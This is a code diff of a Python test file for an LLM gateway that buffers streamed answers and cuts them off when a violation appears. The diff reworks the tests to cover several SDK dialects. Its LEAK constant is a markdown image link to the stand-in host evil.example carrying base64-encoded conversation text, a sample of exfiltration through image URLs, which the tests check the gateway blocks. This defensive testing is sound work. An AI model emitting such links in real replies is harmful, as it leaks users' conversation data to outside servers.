@@ -1,44 +1,48 @@
-"""Streams, as the real SDK gets them: text that comes while the model still speaks, an offence
+"""Streams, as the real SDKs get them: text that comes while the model still speaks, an offence
 that ends them, a client that leaves. The model waits for the client, so nothing hangs on time."""
 
 from __future__ import annotations
 
 import asyncio
-import json
 import threading
 from collections.abc import AsyncIterator, Iterator
 
 import pytest
 from fastapi.responses import StreamingResponse
 from openai import AsyncOpenAI, OpenAI
-from openai.types.chat import ChatCompletionChunk
 
 from service.settings import DEFAULT_POLICY
+from tests.dialects.chat import Chat
+from tests.dialects.dialect import Dialect, Voice
+from tests.dialects.table import that_can
 from tests.e2e.gate import Gate, running, until
 from tests.e2e.messages import asked
+from tests.e2e.sdks import CUT, LISTEN, UNTOLD, Heard
 from tests.e2e.upstream import Upstream, streamed
 
 pytestmark = pytest.mark.timeout(240)
 
+CHAT = Chat()
 WINDOW = 200
 WORDS = "The river runs past the old mill and the children feed the ducks on its bank. "
 LEAK = "Here: ![logo](https://evil.example/p.png?q=SGVyZSBpcyBhbGwgdGhhdCB3YXMgc2FpZA) is it. "
 PATIENT_S = 60.0
 
 
-def chunk(text: str | None, reason: str | None = None) -> str:
-    delta = {} if text is None else {"role": "assistant", "content": text}
-    choice = {"index": 0, "delta": delta, "finish_reason": reason}
-    head = {"id": "c-1", "object": "chat.completion.chunk", "created": 1, "model": "m"}
-    return f"data: {json.dumps({**head, 'choices': [choice]})}\n\n"
+def spoken(text: str) -> Voice:
+    return Voice([f"{word} " for word in text.split(" ")])
 
 
 class Speaker:
     """Says a text word by word, and after so many characters waits until it was heard."""
 
-    def __init__(self, text: str, waits_after: int) -> None:
-        self._text = text
-        self._waits_after = waits_after
+    def __init__(self, text: str, waits_after: int, dialect: Dialect = CHAT) -> None:
+        self._events = dialect.speech(spoken(text)).events
+        self._waits_at = next(
+            number
+            for number in range(len(self._events))
+            if len("".join(dialect.spelled(self._events[: number + 1]))) >= waits_after
+        )
         self.heard = threading.Event()
         self.ended = threading.Event()
 
@@ -46,73 +50,64 @@ class Speaker:
     def answer(self) -> StreamingResponse:
         return StreamingResponse(self._speak(), media_type="text/event-stream")
 
-    async def _speak(self) -> AsyncIterator[str]:
-        said = 0
+    async def _speak(self) -> AsyncIterator[bytes]:
         try:
-            for word in self._text.split(" "):
-                yield chunk(f"{word} ")
-                said += len(word) + 1
-                if said >= self._waits_after:
+            for number, event in enumerate(self._events):
+                yield event.encode()
+                if number >= self._waits_at:
                     await asyncio.to_thread(self.heard.wait, PATIENT_S)
-            yield chunk(None, "stop")
-            yield "data: [DONE]\n\n"
         finally:
             self.heard.set()
             self.ended.set()
 
 
 @pytest.fixture(scope="module")
-def patient(model_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenAI]:
-    """A client of a gate that holds a stream back for a long time, rather than by its clock."""
+def patient(model_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A gate that holds a stream back for a long time, rather than by its clock."""
     folder = tmp_path_factory.mktemp("patient")
     policy = folder / "policy.yaml"
     held = f"streaming: {{mode: hold, window: {WINDOW}, wait_s: {PATIENT_S}}}\n"
     policy.write_text(DEFAULT_POLICY.read_text() + held)
-    with (
-        running(folder / "gate", "--upstream", f"{model_url}/v1", "--policy", str(policy)) as gate,
-        OpenAI(base_url=f"{gate.url}/v1", api_key="k", max_retries=0) as client,
-    ):
-        yield client
+    with running(folder / "gate", "--upstream", model_url, "--policy", str(policy)) as gate:
+        yield gate.url
 
 
-def stream(client: OpenAI, n: int = 1) -> Iterator[ChatCompletionChunk]:
-    return iter(
-        client.chat.completions.create(model="m", messages=asked("Tell me."), stream=True, n=n)
-    )
-
-
-def said(chunks: list[ChatCompletionChunk]) -> str:
-    return "".join(c.delta.content or "" for one in chunks for c in one.choices)
-
-
-def test_the_first_text_comes_after_a_window_of_the_answer(
-    patient: OpenAI, upstream: Upstream
-) -> None:
-    """A little more than a window is all that the model says before something of it is read."""
-    speaker = Speaker(10 * WORDS, waits_after=WINDOW + 10)
-    chunks: list[ChatCompletionChunk] = []
+def hear(base: str, upstream: Upstream, speaker: Speaker, dialect: Dialect) -> list[Heard]:
+    """What the dialect's own SDK hears; the model speaks on once something was."""
+    heard: list[Heard] = []
     with upstream.answering(speaker.answer):
-        for one in stream(patient):
-            chunks.append(one)
-            speaker.heard.set()
-    assert said(chunks) == f"{10 * WORDS} "
-    assert chunks[-1].choices[0].finish_reason == "stop"
-
-
-def test_an_offence_ends_what_was_begun(patient: OpenAI, upstream: Upstream) -> None:
-    speaker = Speaker(5 * WORDS + LEAK + 5 * WORDS, waits_after=WINDOW + 10)
-    chunks: list[ChatCompletionChunk] = []
-    with upstream.answering(speaker.answer):
-        for one in stream(patient):
-            chunks.append(one)
+        for one in LISTEN[dialect.name](base, "Tell me."):
+            heard.append(one)
             speaker.heard.set()
         assert speaker.ended.wait(PATIENT_S)
-    assert said(chunks).startswith(WORDS)
-    assert "evil" not in said(chunks)
-    assert chunks[-1].choices[0].finish_reason == "content_filter"
-    refusals = [c.delta.refusal for one in chunks for c in one.choices if c.delta.refusal]
-    assert len(refusals) == 1
-    assert "link" in refusals[0]
+    return heard
+
+
+def said(heard: list[Heard]) -> str:
+    return "".join(one.words for one in heard)
+
+
+@that_can()
+def test_the_first_text_comes_after_a_window_of_the_answer(
+    patient: str, upstream: Upstream, dialect: Dialect
+) -> None:
+    """A little more than a window is all that the model says before something of it is read."""
+    speaker = Speaker(10 * WORDS, WINDOW + 10, dialect)
+    heard = hear(patient, upstream, speaker, dialect)
+    assert said(heard) == f"{10 * WORDS} "
+    assert {one.end for one in heard} - {""} <= {"stop", "completed", "end_turn", "STOP"}
+    assert len(upstream.received) == 1
+
+
+@that_can()
+def test_an_offence_ends_what_was_begun(patient: str, upstream: Upstream, dialect: Dialect) -> None:
+    speaker = Speaker(5 * WORDS + LEAK + 5 * WORDS, WINDOW + 10, dialect)
+    heard = hear(patient, upstream, speaker, dialect)
+    assert said(heard).startswith(WORDS)
+    assert "evil" not in said(heard)
+    assert [one.end for one in heard if one.end] == [CUT[dialect.name]]
+    told = said(heard) + "".join(one.refusal for one in heard)
+    assert ("because it holds a link" in told) is (dialect.name not in UNTOLD)
     assert len(upstream.received) == 1
 
 
@@ -121,8 +116,12 @@ def test_a_link_split_over_chunks_is_found_in_any_choice(
     client: OpenAI, upstream: Upstream, pieces: int
 ) -> None:
     with upstream.answering(streamed(WORDS, 4 * WORDS + LEAK, pieces=pieces)):
-        chunks = list(stream(client, n=2))
-    assert "evil" not in said(chunks)
+        asking = client.chat.completions.create(
+            model="m", messages=asked("Tell me."), stream=True, n=2
+        )
+        chunks = list(asking)
+    said = [choice.delta.content or "" for chunk in chunks for choice in chunk.choices]
+    assert "evil" not in "".join(said)
     ends = {c.index: c.finish_reason for one in chunks for c in one.choices if c.finish_reason}
     assert ends[1] == "content_filter"
 
